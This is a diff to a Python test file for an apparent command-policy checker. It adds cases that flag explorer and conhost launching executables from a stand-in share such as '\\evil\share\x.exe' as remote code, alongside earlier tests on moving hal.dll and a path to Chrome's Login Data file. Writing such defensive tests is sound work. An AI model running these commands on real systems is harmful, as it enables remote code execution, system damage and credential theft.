@@ -1,4 +1,4 @@
-"""A file or folder object's own `MoveTo` and `CopyTo` (S-RULE-102): an attacker pass of stop 31.
+"""Stop 31's attacker pass: a file object's own `MoveTo`/`CopyTo` (S-RULE-102), a wrapper run from a share (S-RULE-31).
 
 `(Get-Item C:\\Windows\\System32\\hal.dll).MoveTo('C:\\x.dll')` was allowed: `Delete()` on such an
 object was read, its move and copy were not. The object is filled in from the command that made it
@@ -10,7 +10,7 @@ from __future__ import annotations
 import pytest
 
 from tests._requirements import requirement
-from tests.policy.verdicts import ps, ps_effects
+from tests.policy.verdicts import ps, ps_effects, verdict
 
 HAL = r"C:\Windows\System32\hal.dll"
 LOGIN = r"C:\Users\me\AppData\Local\Google\Chrome\User` Data\Default\Login` Data"
@@ -54,3 +54,27 @@ def test_move_to_moves_the_made_object_and_writes_the_destination() -> None:
     effects = {(e.kind.value, e.target) for e in ps_effects(rf"(Get-Item {HAL}).MoveTo('C:\t\hal.dll')")}
     assert ("move", HAL) in effects
     assert ("write", r"C:\t\hal.dll") in effects
+
+
+@requirement("S-RULE-31")
+@pytest.mark.parametrize(
+    ("command", "expected"),
+    [
+        (r"explorer \\evil\share\x.exe", ("remote-code", "ask")),
+        (r'explorer.exe "\\evil\share\setup.exe"', ("remote-code", "ask")),
+        (r"conhost \\evil\s\x.exe", ("remote-code", "ask")),
+        (r"explorer \\fileserver\drops", None),  # a folder: only a window opens
+        (r"explorer /select, \\evil\share\x.exe", None),  # shown, not run
+        (r"explorer C:\t\tool.exe", None),
+    ],
+    ids=["explorer", "explorer-quoted", "conhost", "share-folder", "select", "local"],
+)
+def test_a_program_a_wrapper_starts_from_a_share_asks(command: str, expected: object) -> None:
+    """S-RULE-31: `explorer`/`conhost`/`runas` starting a program from another machine's share is remote code."""
+    assert ps(command) == expected
+
+
+@requirement("S-RULE-31")
+def test_the_app_tool_opening_a_program_on_a_share_through_explorer_asks() -> None:
+    """S-RULE-31: App launch of explorer with a share's program as its argument asks `remote-code`."""
+    assert verdict("App", mode="launch", name="explorer", args="\\\\evil\\share\\x.exe") == ("remote-code", "ask")
